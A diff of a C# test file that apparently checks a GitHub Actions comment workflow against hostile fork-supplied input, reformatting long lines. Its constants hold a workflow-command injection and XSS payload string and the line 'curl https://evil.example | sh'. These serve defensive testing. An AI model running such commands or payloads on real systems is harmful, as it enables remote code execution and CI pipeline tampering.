@@ -8,7 +8,9 @@ namespace Gauntlet.Workflows.Tests.Replay;
 /// <summary>comment.yml: the artifact, the title and the branch are a stranger's.</summary>
 internal sealed partial class ForkReplayTests
 {
-    private const string Hostile = "</details>\n::set-output name=verdict::pass\n##[add-path]/tmp\n<img src=x onerror=alert(1)> [click](https://evil.example) @everyone fixes #1 ``` | --> <!--";
+    private const string Hostile =
+        "</details>\n::set-output name=verdict::pass\n##[add-path]/tmp\n<img src=x onerror=alert(1)> "
+        + "[click](https://evil.example) @everyone fixes #1 ``` | --> <!--";
     private const string Command = "curl https://evil.example | sh";
 
     private static readonly MarkdownPipeline GitHubMarkdown = new MarkdownPipelineBuilder().UsePipeTables().UseAutoLinks().Build();
@@ -50,7 +52,8 @@ internal sealed partial class ForkReplayTests
     {
         await using var bench = await StartAsync();
 
-        var run = await bench.RunAsync("comment.yml", "comment", server => ActionsFolder.ForWorkflowRun(server, Fork with { HeadRepository = GitHubServer.Repository }, 7_000));
+        var run = await bench.RunAsync(
+            "comment.yml", "comment", server => ActionsFolder.ForWorkflowRun(server, Fork with { HeadRepository = GitHubServer.Repository }, 7_000));
 
         Assert.That(run.Steps, Is.Empty);
     }
@@ -135,7 +138,9 @@ internal sealed partial class ForkReplayTests
     {
         var read = StoppedPart().Replace(output, string.Empty);
         Assert.That(read, Does.Not.Contain("##["));
-        Assert.That(read.Split('\n').Select(line => line.TrimStart()).Where(line => line.StartsWith("::", StringComparison.Ordinal)), Is.All.Match("^::(add-mask|group|endgroup|error|warning|notice)"));
+        Assert.That(
+            read.Split('\n').Select(line => line.TrimStart()).Where(line => line.StartsWith("::", StringComparison.Ordinal)),
+            Is.All.Match("^::(add-mask|group|endgroup|error|warning|notice)"));
     }
 
     private static int Occurrences(string text, string part) => text.Split(part).Length - 1;
